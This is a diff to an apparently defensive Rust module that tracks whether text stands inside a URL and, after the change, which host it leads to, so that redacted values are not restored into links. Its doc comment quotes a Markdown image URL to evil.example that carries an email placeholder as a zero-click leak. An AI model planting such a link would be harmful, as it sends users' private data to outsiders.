@@ -1,13 +1,14 @@
-//! Knows, character by character, whether a text stands inside a URL that names a host.
+//! Knows, character by character, whether a text stands inside a URL that names a host, and behind which address.
 //!
-//! A value is not restored there: `![](https://evil.example/?q=<EMAIL_…>)` is a way out that needs no click. What ends a URL
-//! depends on what opened it, because that is how renderers read: a quoted attribute ends at its quote, `<…>` at `>`, a
+//! A value is not restored there: `![](https://evil.example/?q=<EMAIL_…>)` is a way out that needs no click, unless policy
+//! names the host (see [`super::address`]). What ends a URL depends on what opened it, because that is how renderers read: a quoted attribute ends at its quote, `<…>` at `>`, a
 //! Markdown destination at a blank or its bracket, a bare URL at a blank. Where renderers disagree the longer reading counts:
 //! a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes end every URL.
 //!
 //! It sees the text as the client will: restored values pass through it too, or a planted value could be the beginning of a
 //! URL.
 
+use super::address::Address;
 use super::unit::{Landing, Unit};
 
 /// The reader's state after some text.
@@ -16,6 +17,7 @@ pub(super) struct Link {
     landing: Landing,
     /// What ends the URL that the text stands in; `None` outside.
     inside: Option<End>,
+    address: Address,
     /// The last eight characters, lower case, the latest in the low byte; zero for what is not ASCII.
     recent: u64,
     /// What stood before the run of scheme characters that is being read, blanks apart.
@@ -47,7 +49,16 @@ enum End {
 impl Link {
     pub(super) fn new(landing: Landing) -> Self {
         let nothing = ('\n', false);
-        Self { landing, inside: None, recent: 0, lead: nothing, mark: nothing, run: 0, backslash: false }
+        Self {
+            landing,
+            inside: None,
+            address: Address::default(),
+            recent: 0,
+            lead: nothing,
+            mark: nothing,
+            run: 0,
+            backslash: false,
+        }
     }
 
     /// Whether the text stands inside a URL.
@@ -55,12 +66,25 @@ impl Link {
         self.inside.is_some()
     }
 
+    /// Host and port, where the text stands in a URL that surely leads there, behind its first slash.
+    pub(super) fn authority(&self) -> Option<&str> {
+        self.inside.and_then(|_| self.address.authority())
+    }
+
+    /// Notes that something stands here that is not read: the URL may lead anywhere.
+    pub(super) fn spoil(&mut self) {
+        self.address.spoil();
+    }
+
     /// Passes one character.
     pub(super) fn pass(&mut self, unit: Unit) {
         let escaped = unit.escaped || self.backslash;
         self.backslash = unit.char == '\\' && !self.backslash;
         match self.inside {
-            Some(end) => self.inside = self.go_on(end, unit.char, escaped, unit.escaped),
+            Some(end) => {
+                self.inside = self.go_on(end, unit.char, escaped, unit.escaped);
+                self.address.pass(unit.char);
+            }
             None => self.watch(unit.char, escaped),
         }
     }
@@ -104,6 +128,8 @@ impl Link {
             || (char == '.' && self.run == 3 && ends_with(before, b"www"));
         if begins {
             self.inside = Some(end_of(self.lead));
+            let plain = char == '/' && ends_with(before, b"https:") && self.run == SCHEME_CHARS;
+            self.address = if plain { Address::begun() } else { Address::default() };
         }
         self.run = if of_run { self.run.saturating_add(1) } else { 0 };
         if !is_blank(char) {
@@ -111,6 +137,9 @@ impl Link {
         }
     }
 }
+
+/// Characters of `https:`; a longer run that ends in it is another scheme, or none.
+const SCHEME_CHARS: usize = 6;
 
 /// Whether the text ends in `://`, or in two slashes that follow no letter or digit; browsers take `\` for `/`.
 fn begins_authority(recent: u64) -> bool {
